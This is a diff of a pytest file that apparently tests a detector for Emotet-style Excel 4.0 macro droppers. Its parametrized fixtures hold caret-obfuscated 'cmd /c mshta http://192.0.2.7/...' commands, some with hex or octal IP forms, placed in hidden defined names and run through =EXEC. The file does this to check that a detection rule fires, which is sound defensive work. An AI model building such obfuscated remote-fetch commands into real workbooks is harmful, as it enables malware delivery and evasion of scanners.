@@ -91,20 +91,40 @@ def test_the_odd_extension(end: str) -> None:
     assert shells(BookPlan((SheetPlan("Notes", {"A1": text}, "worksheet"),)))[0] == set()
 
 
-def test_a_command_with_carets_in_a_name() -> None:
-    command = "cmd /c " + "^".join("mshta http://192.0.2.7/fe/fe.html")
-    plan = book({"J1": "=EXEC(ABCD)", "J2": "=HALT()"}, (NamePlan("ABCD", f'"{command}"', "OO", hidden=True),))
+@pytest.mark.parametrize(
+    "command",
+    [
+        "^".join("mshta http://192.0.2.7/fe/fe.html"),
+        "m^sh^t^a h^tt^p^:/^/192.0.2.7/a/b.html",  # Trend Micro, 2022-01-21: irregular, and numbers in other forms
+        "ms^h^ta ht^tp:/^/0xc0000207/a.html",
+        "msht^a http:/^/0300.0000.0002.0007/a.html",
+    ],
+)
+def test_a_command_with_carets_in_a_name(command: str) -> None:
+    plan = book({"J1": "=EXEC(ABCD)", "J2": "=HALT()"}, (NamePlan("ABCD", f'"cmd /c {command}"', "OO", hidden=True),))
     assert shells(plan)[:2] == [{"emotet_excel4_caret_page"}] * 2
-    named = "cmd /c " + "^".join("mshta http://www.example.com/fe.html")
-    assert set().union(*shells(book({"J1": f'=EXEC("{named}")'}))) == set(), "a host with a name"
-    assert set().union(*shells(book({"J1": '=EXEC("mshta http://192.0.2.7/fe.html")'}))) == set(), "no carets"
+    assert fits(f"cmd /c {command}".encode()) == set(), "a report"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "^".join("mshta http://www.example.com/fe.html"),  # a host with a name
+        "mshta http://192.0.2.7/fe.html",
+        "mshta http:/^/192.0.2.7/fe.html",
+        "m^s^h^t^a http://192.0.2.7/fe.html",
+        "e^x^c^e^l http:/^/192.0.2.7/fe.html",
+    ],
+)
+def test_a_command_that_is_not_quite_so(command: str) -> None:
+    assert set().union(*shells(book({"J1": f'=EXEC("cmd /c {command}")'}))) == set()
 
 
 def test_workbooks_as_the_campaigns_had_them() -> None:
     assert all("emotet_excel4_odd_extension" in found for found in every(sheets.templates))
     assert all("excel4_fetches_library" in found for found in every(sheets.downloads))
     assert any("excel4_writes_scripts" in found for found in every(sheets.scripts))
-    assert any("emotet_excel4_caret_page" in found for found in every(sheets.mshta))
+    assert sum("emotet_excel4_caret_page" in found for found in every(sheets.mshta)) >= 3
 
 
 @pytest.mark.parametrize(
